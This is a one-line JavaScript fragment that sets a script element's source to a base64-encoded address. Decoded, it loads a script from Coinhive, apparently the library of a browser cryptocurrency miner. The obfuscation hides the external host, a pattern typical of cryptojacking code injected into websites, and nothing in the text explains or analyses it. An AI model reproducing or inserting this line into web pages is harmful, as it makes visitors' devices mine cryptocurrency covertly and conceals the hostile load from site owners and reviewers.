s.src = atob("aHR0cHM6Ly9jb2luaGl2ZS5jb20vbGliL3guanM=");
